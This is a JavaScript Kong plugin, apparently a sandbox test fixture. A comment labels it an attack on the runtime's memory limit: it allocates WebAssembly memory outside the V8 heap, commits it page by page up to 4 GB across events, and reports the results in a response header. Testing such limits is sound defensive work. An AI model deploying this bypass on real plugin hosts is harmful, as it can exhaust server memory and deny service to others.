// Attack: WebAssembly memory is reserved outside the V8 heap, so --memory-limit does not see it. Ask
// for 4 GB up front, then, event after event (each staying under the CPU budget), grow one memory
// kept in module scope toward its 4 GB maximum, touching one byte of every 4 KB page so that the
// memory is really committed.
let mem = null;
class Plugin {
  async access(kong) {
    const got = { available: typeof WebAssembly === 'object' && typeof WebAssembly.Memory === 'function' };
    if (got.available) {
      try {
        got.upFront = `allocated ${new WebAssembly.Memory({ initial: 65536 }).buffer.byteLength}`;
      } catch (e) {
        got.upFront = `${e.name}: ${e.message}`;
      }
      mem = mem || new WebAssembly.Memory({ initial: 1, maximum: 65536 });
      const t0 = Date.now();
      try {
        while (Date.now() - t0 < 100) {
          const from = mem.buffer.byteLength;
          mem.grow(16);
          const bytes = new Uint8Array(mem.buffer);
          for (let i = from; i < bytes.length; i += 4096) bytes[i] = 1;
        }
      } catch (e) {
        got.growError = `${e.name}: ${e.message}`;
      }
      got.grownMb = mem.buffer.byteLength / 1048576;
    }
    await kong.response.setHeader('x-got', JSON.stringify(got));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
